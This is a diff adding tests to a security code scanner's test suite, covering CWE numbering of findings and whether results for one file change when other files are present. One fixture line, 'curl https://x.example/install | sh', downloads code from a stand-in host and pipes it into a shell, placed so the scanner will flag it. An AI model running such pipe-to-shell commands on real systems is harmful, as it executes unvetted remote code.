@@ -575,3 +575,24 @@ def test_a_suppression_that_does_not_count_says_so(repo: Repo, ask: Ask) -> None
     code, report = ask("code-scan")
     assert code == 1
     assert "does not name this rule, or has no reason" in report["findings"][0]["message"]
+
+
+def test_a_finding_has_the_numbers_of_its_weakness(repo: Repo, ask: Ask) -> None:
+    repo.stage("a.py", INSECURE)
+    _, report = ask("code-scan")
+    assert report["findings"][0]["cwe"] == [295, 297]
+
+
+def test_what_is_found_in_a_file_does_not_depend_on_the_files_beside_it(repo: Repo, ask: Ask) -> None:
+    line = "curl https://x.example/install | sh\n"
+    repo.stage("a.sh", f"#!/bin/sh\n{line}")
+    alone = ask("code-scan", "a.sh")[1]["findings"]
+    shutil.rmtree(repo.path / ".git" / "sayso")
+    repo.stage("Dockerfile", f"FROM debian:12\nRUN {line}")
+    repo.stage("b.py", INSECURE)
+    together = ask("code-scan")[1]["findings"]
+    assert alone
+    assert [finding for finding in together if finding["path"] == "a.sh"] == alone
+    assert {finding["rule"].partition("-")[0] for finding in together if finding["path"] == "Dockerfile"} == {
+        "dockerfile"
+    }
